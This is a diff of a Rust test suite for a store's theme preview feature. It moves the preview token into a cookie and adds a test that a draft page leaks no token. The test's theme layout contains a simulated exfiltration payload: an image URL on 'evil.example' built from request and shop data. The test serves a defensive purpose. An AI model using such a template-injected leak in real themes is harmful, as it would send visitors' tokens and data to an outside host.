@@ -17,6 +17,17 @@ async fn seen(shop: &ThemeShop, rest: &str) -> Reply {
     shop.gateway.client().get(&format!("{}{rest}", page(shop))).await
 }
 
+/// The page under a preview, whose token a browser keeps as a cookie.
+async fn previewed(shop: &ThemeShop, token: &str) -> Reply {
+    let led = seen(shop, &format!("?preview_token={token}")).await.expect(303);
+    assert_eq!(led.header("location"), Some(page(shop).as_str()));
+    let kept = led.header("set-cookie").expect("a cookie");
+    assert!(kept.contains("HttpOnly; SameSite=Lax"), "{kept}");
+    assert!(kept.contains(&format!("Path={};", page(shop))), "{kept}");
+    let pair = kept.split(';').next().expect("a pair");
+    shop.gateway.client().get(&page(shop)).header("cookie", pair).await
+}
+
 /// A store that has published a theme whose layout is this.
 async fn with_layout(layout: &str) -> ThemeShop {
     let shop = ThemeShop::with_upload().await;
@@ -50,9 +61,9 @@ async fn a_page_follows_its_theme_through_publishing_and_rolling_back() {
     let version = shop.draft("Draft").await;
     let begun = shop.post("preview-session", json!({"draft_version": version})).await.expect(201);
     let token = begun.str("/preview_token");
-    let drafted = seen(&shop, &format!("?preview_token={token}")).await.expect(200);
+    let drafted = previewed(&shop, &token).await.expect(200);
     assert!(drafted.text.contains("<h1>Draft</h1>"), "{}", drafted.text);
-    let links = format!("{}/collections?preview_token={token}", page(&shop));
+    let links = format!("{}/collections'", page(&shop));
     assert!(drafted.text.contains(&links), "{}", drafted.text);
     assert_eq!(seen(&shop, "").await.expect(200).text, first.text);
     seen(&shop, "?preview_token=no").await.expect(400);
@@ -65,6 +76,50 @@ async fn a_page_follows_its_theme_through_publishing_and_rolling_back() {
     let style = first.text.split("href=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap();
     let style = shop.gateway.client().get(style).await.expect(200);
     assert_eq!(style.text, "body { margin: 0 }");
+}
+
+/// Whatever a theme writes into the address of a picture, a style or a link, the token is not in it.
+#[tokio::test]
+async fn a_themes_page_holds_no_token_of_its_preview() {
+    let layout = "<html><head>{{ 'theme.css' | asset_url | stylesheet_tag }}</head><body>\
+        <img src='https://evil.example/{{ routes.root_url | url_encode }}\
+        {{ 'theme.css' | asset_url | url_encode }}{{ request.path }}{{ request.origin }}\
+        {{ request | json }}{{ shop | json }}{{ canonical_url }}{{ page_title }}'>\
+        {{ content_for_layout }}<a href='{{ routes.collections_url }}'>all</a></body></html>";
+    let shop = with_layout(layout).await;
+    // A draft of another version, whose files nobody else sees.
+    let mut source = ThemeSource::new(&shop.slug).version("3.0.0");
+    source.css = "body { margin: 3px }".into();
+    let files = source.files().into_iter().map(|(path, content)| {
+        let is_layout = path == "layout/theme.liquid";
+        (path, if is_layout { layout.as_bytes().to_vec() } else { content })
+    });
+    let files: Vec<(String, Vec<u8>)> = files.collect();
+    upload(&shop.merchant, zip(&files)).await.expect(201);
+    shop.post("upgrade", json!({"version": "3.0.0"})).await.expect(200);
+    let version = shop.draft("Secret").await;
+    let begun = shop.post("preview-session", json!({"draft_version": version})).await.expect(201);
+    let token = begun.str("/preview_token");
+    let drafted = previewed(&shop, &token).await.expect(200);
+    let secret = token.strip_prefix("thp_").expect("a token");
+    for part in [&token, &secret[..20], &secret[secret.len() - 20..], "preview_token"] {
+        assert!(!drafted.text.contains(part), "{part}: {}", drafted.text);
+    }
+    // Its style is there all the same, for whoever knows its digest.
+    let style = drafted.text.split("href=\"").nth(1).and_then(|rest| rest.split('"').next());
+    let style = style.expect("a style sheet");
+    assert!(style.starts_with(&page(&shop)), "{style}");
+    let sheet = shop.gateway.client().get(style).await.expect(200);
+    assert_eq!(sheet.text, "body { margin: 3px }");
+    assert_eq!(sheet.header("referrer-policy"), Some("no-referrer"));
+    let unknown = format!("{}/files/{}", page(&shop), "0".repeat(64));
+    shop.gateway.client().get(&unknown).await.expect(404);
+    // What is left, or over, is not asked for again.
+    let left = seen(&shop, "?preview_token=").await.expect(303);
+    assert!(left.header("set-cookie").expect("a cookie").contains("Max-Age=0"));
+    let over = shop.gateway.client().get(&page(&shop)).header("cookie", "preview_token=no");
+    let over = over.await.expect(400);
+    assert!(over.header("set-cookie").expect("a cookie").contains("Max-Age=0"));
 }
 
 #[tokio::test]
